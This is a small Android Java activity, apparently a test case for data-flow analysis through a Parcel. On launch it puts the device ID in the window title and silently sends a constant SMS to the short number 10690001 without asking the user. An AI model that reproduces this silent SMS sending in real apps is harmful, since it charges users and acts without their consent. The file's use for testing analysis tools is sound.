package cn.shanhai.parcel;

import android.app.Activity;
import android.os.Bundle;
import android.os.Parcel;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Parcel parcel = Parcel.obtain();
    parcel.writeString("v1");
    parcel.writeString(Device.id(this));
    parcel.setDataPosition(0);
    String first = parcel.readString();
    String second = parcel.readString();
    parcel.recycle();
    setTitle(second);
    SmsManager.getDefault().sendTextMessage("10690001", null, first, null, null);
  }
}
